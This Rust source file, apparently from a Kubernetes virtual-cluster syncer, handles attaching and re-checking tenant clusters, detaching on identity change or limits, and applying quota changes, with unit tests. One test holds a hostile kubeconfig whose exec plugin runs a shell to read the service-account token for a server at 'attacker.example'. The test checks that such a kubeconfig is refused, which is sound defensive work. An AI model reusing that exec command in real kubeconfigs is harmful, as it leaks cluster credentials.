//! One attempt of a tenant's supervisor: attach the tenant (again, if its kubeconfig changed, it went over
//! its limits, or its apiserver answers again after an outage) or check that the attached one still
//! answers and is the same cluster; and the settings an attached tenant runs with.

use std::sync::Arc;

use crds::VirtualCluster;
use k8s_openapi::jiff::Timestamp;
use kube::ResourceExt;
use tokio::sync::watch;

use super::{
    cleanup::detach,
    connect::{
        Failure, REASON_IDENTITY_CHANGED, check, connect, failure, fingerprint, identity_changed,
        load_kubeconfig, pin_identity, response_too_large,
    },
    eligibility::recreates_missing_copies,
};
use crate::{
    engine::{
        budget::REASON_LIMIT_EXCEEDED,
        context::Context,
        items::{Kind, UpItem},
    },
    tenancy::{identity::TenantIdentity, settings::TenantSettings, tenant::Tenant},
};

/// Why attaching stopped: the tenant was handed over to another replica meanwhile (never reported: the
/// new owner reports).
const REASON_HANDED_OVER: &str = "TenantHandedOver";

/// Why attaching stopped before its turn in the attach journal came: the VirtualCluster changed (never
/// reported; the supervisor looks again).
pub(super) const REASON_QUEUED: &str = "TenantAttachQueued";

/// How an attach enters the journal: as what kind, given up when the VirtualCluster changes meanwhile,
/// and where the ticket goes once the tenant is attached.
pub(super) struct JournalEntry<'a> {
    pub(super) journal: &'a Arc<crate::tenancy::journal::Journal>,
    pub(super) kind: crate::tenancy::journal::Kind,
    pub(super) interrupt: watch::Receiver<Arc<VirtualCluster>>,
    pub(super) ticket: &'a mut Option<crate::tenancy::journal::Ticket>,
}

/// Attaches the tenant (again, if its kubeconfig changed) or checks that it still answers. Its caches
/// start listing only once the tenant is in the attach journal (`journal`).
pub(super) async fn attach_or_check(
    ctx: &Context,
    vc: &VirtualCluster,
    identity: &TenantIdentity,
    attached: &mut Option<(Arc<Tenant>, String)>,
    recovering: bool,
    settings: TenantSettings,
    journal: Option<JournalEntry<'_>>,
) -> Result<String, Failure> {
    let kubeconfig = load_kubeconfig(&ctx.super_client, vc, identity).await?;
    let print = fingerprint(&kubeconfig);
    if let Some((tenant, _)) = attached.as_ref()
        && tenant.responses.exceeded().is_some()
    {
        // A response was cut: its caches may miss what it held. Detached, and attached again with backoff.
        let failed = response_too_large(&tenant.responses);
        attached.take();
        detach(ctx, &identity.cluster_key);
        return Err(failed);
    }
    if let Some((tenant, _)) = attached.as_ref()
        && let Some(exceeded) = tenant.budget.exceeded()
    {
        // Its caches miss what did not fit, and its work is held; detaching frees what they hold. The
        // next attempt lists the tenant anew and stays attached if it fits by then.
        attached.take();
        detach(ctx, &identity.cluster_key);
        return Err(failure(REASON_LIMIT_EXCEEDED, exceeded));
    }
    if let Some((tenant, current)) = attached.as_ref()
        && *current == print
    {
        update_settings(ctx, tenant, settings.clone());
        // Its labels decide which custom resource kinds it gets.
        crate::resources::custom_resource::definition::queue_changed(ctx, tenant);
        // During an outage the tenant stays attached and its watches retry on their own, with a backoff
        // that may have grown long; once the apiserver answers again, fresh watches catch up at once.
        let answer = check(&tenant.client, &format!("of {}", identity.vc_ref())).await?;
        if answer.kube_system_uid != tenant.kube_system_uid {
            // Same kubeconfig, another cluster (its etcd was replaced): stop before anything is deleted.
            // The tenant's own check already holds its work (see Tenant::is_ready).
            let changed = identity_changed(vc, &tenant.kube_system_uid, &answer.kube_system_uid);
            attached.take();
            detach(ctx, &identity.cluster_key);
            return Err(changed);
        }
        if !recovering {
            return Ok(answer.version);
        }
        tracing::info!(vc = %identity.vc_ref(), "tenant apiserver answers again; restarting its watches");
    }
    let native_root = vc
        .adoption()
        .is_none()
        .then_some((&ctx.super_client, identity.cluster_key.as_str()));
    let (connection, answer) = connect(
        &kubeconfig,
        native_root,
        ctx.config.tenant_http2,
        ctx.config.tenant_response_limits,
    )
    .await?;
    if let Err(failed) = pin_identity(ctx, vc, &answer.kube_system_uid).await {
        // A kubeconfig that now leads elsewhere: whatever was attached (the earlier cluster, through the
        // earlier kubeconfig) stops too, so that the tenant is not synced from two places in turn.
        if failed.reason == REASON_IDENTITY_CHANGED && attached.take().is_some() {
            detach(ctx, &identity.cluster_key);
        }
        return Err(failed);
    }
    // Its place in the journal before anything large is read: should the process stop from here until the
    // tenant has stayed attached for the probation, the stop counts against it. Not before the connection:
    // its replies are small and bounded, and an apiserver that never answers would write the journal at
    // every retry.
    let ticket = match journal {
        Some(JournalEntry {
            journal,
            kind,
            mut interrupt,
            ticket,
        }) => {
            let entered = tokio::select! {
                entered = journal.enter(&identity.cluster_key, kind) => entered,
                _ = interrupt.changed() => {
                    return Err(failure(REASON_QUEUED, "waiting for its turn in the attach journal"));
                }
            };
            Some((entered, ticket))
        }
        None => None,
    };
    let version = answer.version.clone();
    if attached.take().is_some() {
        detach(ctx, &identity.cluster_key);
    }
    // A detach (just now, or earlier for the tenant's cache limits) forgot the tenant's usage; its running
    // pods send no events that would count them. Counting is idempotent, so a first attach costs nothing.
    let id: crate::engine::queue::TenantId = Arc::from(identity.cluster_key.as_str());
    let pods = ctx.supers.pods.copies.state();
    ctx.quota.recount(&id, pods.iter().map(|p| &**p));
    recount_objects(ctx, &id);
    tracing::info!(vc = %identity.vc_ref(), cluster_key = %identity.cluster_key, %version, "attaching tenant");
    let tenant = Tenant::start(
        identity.clone(),
        connection,
        answer.kube_system_uid,
        settings,
        &ctx.queues,
        ctx.config.sync_ingresses,
        &ctx.config.custom_resources,
        ctx.config.tenant_cache_limits,
    );
    if let Some(why) = recreates_missing_copies(vc) {
        // Before the caches are ready, so before any pod is synced.
        let _ = tenant
            .resumed
            .set(crate::tenancy::tenant::Resumed::at(Timestamp::now()));
        tracing::info!(vc = %identity.vc_ref(), why, "scheduled tenant pods without a super copy are recreated, not treated as lost");
    }
    // Sharded: only while this replica holds the tenant's Lease, checked atomically with the insert.
    let Some(previous) = ctx.admit(&identity.cluster_key, || ctx.tenants.insert(tenant.clone())) else {
        tenant.stop();
        return Err(failure(
            REASON_HANDED_OVER,
            "another syncer replica syncs this tenant now",
        ));
    };
    if let Some(previous) = previous {
        previous.stop();
    }
    tokio::spawn({
        let tenant = tenant.clone();
        let listed = ctx.metrics.tenancy.tenant_list_duration.clone();
        let attached_at = std::time::Instant::now();
        async move {
            tenant.become_ready().await;
            listed.observe(attached_at.elapsed().as_secs_f64());
        }
    });
    // Outside `pods` mode the tenant sees its nodes from the start.
    if ctx.config.vnode_mode != crate::resources::vnode::flags::VNodeMode::Pods {
        for node in ctx.supers.nodes.state() {
            ctx.queues
                .up
                .add(&tenant.id, UpItem::cluster(Kind::Node, &node.name_any()));
        }
    }
    // Public classes only change rarely; a new tenant needs the current set.
    for class in ctx.supers.storage_classes.state() {
        ctx.queues
            .up
            .add(&tenant.id, UpItem::cluster(Kind::StorageClass, &class.name_any()));
    }
    for class in ctx.supers.priority_classes.state() {
        ctx.queues.up.add(
            &tenant.id,
            UpItem::cluster(Kind::PriorityClass, &class.name_any()),
        );
    }
    for class in ctx.supers.runtime_classes.state() {
        ctx.queues
            .up
            .add(&tenant.id, UpItem::cluster(Kind::RuntimeClass, &class.name_any()));
    }
    for class in ctx.supers.ingress_classes.iter().flat_map(|s| s.state()) {
        ctx.queues
            .up
            .add(&tenant.id, UpItem::cluster(Kind::IngressClass, &class.name_any()));
    }
    *attached = Some((tenant, print));
    if let Some((entered, ticket)) = ticket {
        *ticket = Some(entered);
    }
    Ok(version)
}

/// Applies a VirtualCluster's settings to its attached tenant; returns whether they changed. A changed
/// quota (raised, lowered or removed) queues the pods waiting for quota at once: they may fit now, and if
/// not, they wait as before.
pub fn update_settings(ctx: &Context, tenant: &Tenant, settings: TenantSettings) -> bool {
    let quota_changed = tenant.settings().quota != settings.quota;
    if !tenant.update_settings(settings, &ctx.queues) {
        return false;
    }
    tracing::info!(vc = %tenant.identity.vc_ref(), "tenant settings updated");
    if quota_changed {
        let queued = ctx.quota.requeue_waiting(&tenant.id);
        tracing::info!(vc = %tenant.identity.vc_ref(), queued, "quota changed; pods waiting for quota queued again");
    }
    true
}

/// Counts a tenant's super Services and PersistentVolumeClaims again from the cache, as its pods are.
fn recount_objects(ctx: &Context, tenant: &crate::engine::queue::TenantId) {
    use kube::Resource;
    let ours =
        |meta: &kube::api::ObjectMeta| crate::tenancy::identity::owner_cluster(meta) == Some(&**tenant);
    for service in ctx.supers.services.state().iter().filter(|s| ours(s.meta())) {
        let usage = crate::accounting::quota::service_usage(service.spec.as_ref());
        ctx.quota
            .observe_object(service.meta(), Kind::Service, Some(usage));
    }
    for claim in ctx.supers.claims.state().iter().filter(|c| ours(c.meta())) {
        let usage = crate::accounting::quota::claim_usage(claim.spec.as_ref());
        ctx.quota
            .observe_object(claim.meta(), Kind::PersistentVolumeClaim, Some(usage));
    }
}

#[cfg(test)]
mod tests {
    use base64::Engine;
    use k8s_openapi::apimachinery::pkg::api::resource::Quantity;
    use serde_json::json;

    use super::*;
    use crate::{
        accounting::quota::Usage,
        engine::{
            context::testing::{self, from_json},
            items::DownItem,
        },
        tenancy::attach::{
            eligibility::eligible,
            fixtures::{KUBECONFIG, answer_check, answer_check_with, provisioned},
        },
    };

    #[tokio::test]
    async fn a_kubeconfig_that_runs_a_program_is_refused_before_any_request() {
        let (super_client, mut supers) = testing::mock();
        let (ctx, _) = testing::context(super_client);
        let hostile = "apiVersion: v1
kind: Config
clusters: [{name: c, cluster: {server: 'https://attacker.example:6443'}}]
users: [{name: u, user: {exec: {apiVersion: client.authentication.k8s.io/v1, command: /bin/sh, args: [-c, 'cat /var/run/secrets/kubernetes.io/serviceaccount/token']}}}]
contexts: [{name: x, context: {cluster: c, user: u}}]
current-context: x
";
        let vc: VirtualCluster = from_json(json!({
            "apiVersion": "tenancy.x-k8s.io/v1alpha1", "kind": "VirtualCluster",
            "metadata": {"name": "vc", "namespace": "team", "uid": "vc-uid", "annotations": {
                crds::wellknown::ANNOTATION_ADMIN_KUBECONFIG: base64::engine::general_purpose::STANDARD.encode(hostile)}},
            "spec": {"clusterVersionName": "v1"},
        }));
        let mut attached = None;
        let failed = attach_or_check(
            &ctx,
            &vc,
            &testing::identity(),
            &mut attached,
            false,
            TenantSettings::of(&vc),
            None,
        )
        .await
        .expect_err("refused");
        assert_eq!(failed.reason, "KubeconfigRefused");
        assert!(failed.message.contains("users[u].exec"), "{}", failed.message);
        assert!(attached.is_none() && ctx.tenants.all().is_empty());
        supers.idle().await;
    }

    #[tokio::test]
    async fn an_attached_tenant_that_turns_into_another_cluster_is_detached() {
        let (super_client, mut supers) = testing::mock();
        let (tenant_client, mut tenants) = testing::mock();
        let (ctx, _) = testing::context(super_client);
        let vc = provisioned(Some("Running"), Some("True"));
        let (tenant, _) = testing::tenant(&ctx, tenant_client, TenantSettings::of(&vc));
        let identity = testing::identity();
        let mut attached = Some((tenant.clone(), fingerprint(KUBECONFIG)));
        // Same kubeconfig, same address; its etcd was wiped: kube-system is new.
        let (result, ()) = tokio::join!(
            attach_or_check(
                &ctx,
                &vc,
                &identity,
                &mut attached,
                false,
                TenantSettings::of(&vc),
                None,
            ),
            answer_check_with(&mut supers, &mut tenants, "a-new-uid")
        );
        let failed = result.expect_err("refused");
        assert_eq!(failed.reason, REASON_IDENTITY_CHANGED);
        assert!(attached.is_none());
        assert!(ctx.tenants.get(&identity.cluster_key).is_none(), "detached");
        supers.idle().await;
        tenants.idle().await;
    }

    #[tokio::test]
    async fn a_changed_quota_queues_the_pods_waiting_for_quota_at_once() {
        let (super_client, mut supers) = testing::mock();
        let (tenant_client, mut tenants) = testing::mock();
        let (ctx, _) = testing::context(super_client);
        let mut vc = provisioned(Some("Running"), Some("True"));
        let (tenant, _) = testing::tenant(&ctx, tenant_client, TenantSettings::of(&vc));
        let identity = testing::identity();
        let one = Usage {
            pods: 1,
            ..Default::default()
        };
        let quota = tenant.settings().quota.clone();
        assert!(
            ctx.quota
                .admit(&tenant.id, quota.as_ref(), "ns", "first", one)
                .is_ok()
        );
        assert!(
            ctx.quota
                .admit(&tenant.id, quota.as_ref(), "ns", "second", one)
                .is_err()
        );
        let mut attached = Some((tenant.clone(), fingerprint(KUBECONFIG)));

        // A status change (here: a rollout begins) changes no setting: nothing is queued.
        vc.status.as_mut().expect("status").phase = Some(crds::ClusterPhase::Updating);
        assert!(eligible(&vc, true));
        let (result, ()) = tokio::join!(
            attach_or_check(
                &ctx,
                &vc,
                &identity,
                &mut attached,
                false,
                TenantSettings::of(&vc),
                None,
            ),
            answer_check(&mut supers, &mut tenants)
        );
        assert_eq!(result.expect("checked"), "v1.25.9");
        assert!(testing::drain_down(&ctx).await.is_empty());

        // The quota is raised while the tenant rolls out: the waiting pod is queued at once.
        vc.spec.quota.as_mut().expect("quota").pods = Some(Quantity("2".into()));
        let (result, ()) = tokio::join!(
            attach_or_check(
                &ctx,
                &vc,
                &identity,
                &mut attached,
                false,
                TenantSettings::of(&vc),
                None,
            ),
            answer_check(&mut supers, &mut tenants)
        );
        result.expect("checked");
        assert!(
            Arc::ptr_eq(&attached.as_ref().expect("attached").0, &tenant),
            "not attached again"
        );
        assert_eq!(tenant.settings().quota, vc.spec.quota);
        assert_eq!(
            testing::drain_down(&ctx).await,
            [DownItem::new(Kind::Pod, "ns", "second")]
        );

        // Removing the quota does it too; any other edit does not.
        vc.spec.quota = None;
        assert!(update_settings(&ctx, &tenant, TenantSettings::of(&vc)));
        assert_eq!(testing::drain_down(&ctx).await.len(), 1);
        vc.spec.weight = 7;
        assert!(update_settings(&ctx, &tenant, TenantSettings::of(&vc)));
        assert!(!update_settings(&ctx, &tenant, TenantSettings::of(&vc)));
        assert!(testing::drain_down(&ctx).await.is_empty());
        supers.idle().await;
        tenants.idle().await;
    }
}
